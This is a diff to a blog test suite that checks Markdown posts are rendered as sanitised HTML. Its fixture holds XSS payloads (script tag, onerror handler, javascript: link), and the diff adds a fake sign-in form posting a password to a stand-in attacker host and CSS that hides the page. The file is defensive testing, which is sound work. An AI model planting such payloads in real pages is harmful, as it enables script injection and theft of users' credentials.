@@ -143,7 +143,7 @@ describe.each(databaseTargets)('blog lifecycle on %s', (target) => {
   it('serves the body as sanitised HTML in the language asked, rendered again after an edit', async () => {
     const created = await create('html-post', {
       body: {
-        en: '## Karak\n\nTea <script>window.hacked = 1</script><img src="x.webp" alt="" onerror="alert(2)"> [go](javascript:alert(3))',
+        en: '## Karak\n\nTea <script>window.hacked = 1</script><img src="x.webp" alt="" onerror="alert(2)"> [go](javascript:alert(3))\n\n<form action="https://evil.example"><input name="password"><button>Sign in</button></form>\n\n<p style="position:fixed">Fixed</p><style>body{display:none}</style>',
         ar: '## كرك\n\nشاي',
       },
     });
@@ -152,6 +152,9 @@ describe.each(databaseTargets)('blog lifecycle on %s', (target) => {
     expect(english.bodyHtml).toContain('<h2>Karak</h2>');
     expect(english.bodyHtml).toContain('src="x.webp"');
     expect(english.bodyHtml).not.toMatch(/<script|onerror|javascript:|hacked/i);
+    // No restyling of the page and no form of its own (a sign-in that is not the site's).
+    expect(english.bodyHtml).not.toMatch(/<style|style=|<form|<input|<button|display:none/i);
+    expect(english.bodyHtml).toContain('Fixed');
     const arabic = (await api.get(`/api/v1/blog/${created._id}`, 'ar')).body as { bodyHtml: string };
     expect(arabic.bodyHtml).toContain('<h2>كرك</h2>');
     clock.tick();
